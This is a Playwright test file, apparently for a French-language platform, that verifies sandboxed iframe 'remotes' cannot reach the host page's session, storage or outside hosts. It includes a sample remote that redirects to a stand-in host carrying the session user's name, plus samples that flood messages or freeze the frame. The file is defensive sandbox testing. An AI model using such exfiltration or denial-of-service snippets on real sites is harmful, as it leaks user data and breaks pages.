import type { Page } from '@playwright/test';
import { attackingCode } from '../src/attacking-remote.ts';
import { exampleVersion, isolatedDescriptor, releaseIsolated } from '../src/isolated.ts';
import { signInByApi } from '../src/people.ts';
import type { Platform } from '../src/platform.ts';
import { expect, test } from '../src/story.ts';
import { launchWholeBrowser } from '../src/whole-browser.ts';

// An isolated remote that tries to reach what is not its own (ADR 119): it reaches nothing, and the page around it works.

/** Releases a remote whose `mount` is this code. */
const release = (
  platform: Platform,
  name: string,
  mount: string,
  version = '1.0.0',
  before: string | null = null,
) =>
  releaseIsolated(
    platform,
    {
      version,
      descriptor: isolatedDescriptor(name),
      files: { 'src/remote.js': `export default { name: '${name}', contract: 2, mount: ${mount} };` },
    },
    before,
  );

const menu = (page: Page) => page.getByRole('navigation', { name: 'Navigation principale' });
const STOPPED = 'Cette page a cessé de fonctionner';

/** The page around a frame still does what people ask of it. */
async function expectUsable(page: Page): Promise<void> {
  await menu(page).getByRole('link', { name: 'Tableau de bord' }).click();
  await expect(page).toHaveURL(/\/app\/dashboard$/);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
}

test('reaches nothing of the page, its session, its storage, its hosts or anything else (EXT-3)', async ({
  page,
  platform,
  context,
}) => {
  await releaseIsolated(platform, await exampleVersion());
  await releaseIsolated(platform, {
    descriptor: isolatedDescriptor('hostile', ['read:server']),
    files: { 'src/remote.js': attackingCode(platform) },
  });
  const elsewhere: string[] = [];
  await context.route('https://elsewhere.test/**', route => {
    elsewhere.push(route.request().url());
    return route.fulfill({ body: '', headers: { 'access-control-allow-origin': '*' } });
  });
  const windows: string[] = [];
  context.on('page', opened => windows.push(opened.url()));
  page.on('dialog', dialog => void dialog.accept('aventure-demo'));
  await signInByApi(page, 'administrator');
  await page.goto('/app/hostile');
  const shown = page.frameLocator('iframe[title="Hostile"]').locator('#outcomes');
  await expect(shown).toContainText('foreign headers', { timeout: 30_000 });
  const outcomes = JSON.parse((await shown.textContent()) ?? '{}') as Record<string, string>;
  const reached = Object.entries(outcomes).filter(([, outcome]) => outcome.startsWith('REACHED'));
  expect(reached.map(([name]) => name)).toEqual(['granted rows']);
  expect(elsewhere).toEqual([]);
  expect(windows).toEqual([]);
  await expect(page).toHaveURL(/\/app\/hostile$/);
  // What it says to people bears its name.
  await expect(page.getByText('« Hostile » : Votre session a expiré.')).toBeVisible();
  expect(await page.evaluate(() => Reflect.get(globalThis, 'rpd_hostile_1_0_0') as unknown)).toBeUndefined();
  expect(await page.evaluate(() => localStorage.getItem('token'))).not.toBeNull();
  await expectUsable(page);
  await page.goto('/app/avant-postes');
  await expect(
    page.frameLocator('iframe[title="Avant-postes"]').getByRole('heading', { name: 'Avant-postes' }),
  ).toBeVisible();
});

test('gives the version before when one throws or its files are not what was registered, and tells the registry', async ({
  page,
  platform,
}) => {
  await release(platform, 'falling', "root => { root.textContent = 'La première tient.'; }");
  await release(platform, 'falling', "() => { throw new Error('boum'); }", '1.1.0', '1.0.0');
  await signInByApi(page, 'administrator');
  await page.goto('/app/falling');
  const frame = page.frameLocator('iframe[title="Falling"]');
  await expect(frame.getByText('La première tient.')).toBeVisible();
  await page.goto('/app/admin/deployments');
  const card = page.getByRole('region', { name: 'Falling' });
  await expect(card.getByText('Isolé', { exact: true })).toBeVisible();
  await expect(card.getByText('1 erreur').first()).toBeVisible();
});

test('a frame that leaves its document is taken away, and nothing of it left the page', async ({
  page,
  platform,
  context,
}) => {
  const elsewhere: string[] = [];
  await context.route('https://elsewhere.test/**', route => {
    elsewhere.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await release(
    platform,
    'leaving',
    "(root, { session }) => { location.href = 'https://elsewhere.test/?who=' + session.get().name; }",
  );
  await signInByApi(page, 'player');
  await page.goto('/app/leaving');
  await expect(page.getByText(STOPPED)).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(0);
  expect(elsewhere).toEqual([]);
  await expectUsable(page);
});

test('a frame that floods the page with messages is taken away', async ({ page, platform }) => {
  await release(
    platform,
    'flooding',
    "(root, { title }) => { const flood = () => { for (let i = 0; i < 200; i += 1) title('x' + i); setTimeout(flood); }; flood(); }",
  );
  await signInByApi(page, 'player');
  await page.goto('/app/flooding');
  await expect(page.getByText(STOPPED)).toBeVisible({ timeout: 30_000 });
  await expectUsable(page);
});

test('a frame that never comes back from its work leaves the page usable, and is taken away', async ({
  platform,
  baseURL,
}) => {
  await release(platform, 'frozen', '() => { setTimeout(() => { for (;;); }, 300); }');
  // The browser without a window keeps all frames in one process; the one that people have gives sandboxed frames their own.
  const browser = await launchWholeBrowser();
  const page = await browser.newPage({
    ...(baseURL && { baseURL }),
    locale: 'fr-FR',
    serviceWorkers: 'block',
  });
  await signInByApi(page, 'player');
  await page.goto('/app/frozen');
  await expect(page.getByText(STOPPED)).toBeVisible({ timeout: 90_000 });
  await expect(page.locator('iframe')).toHaveCount(0);
  await expectUsable(page);
  await browser.close();
});
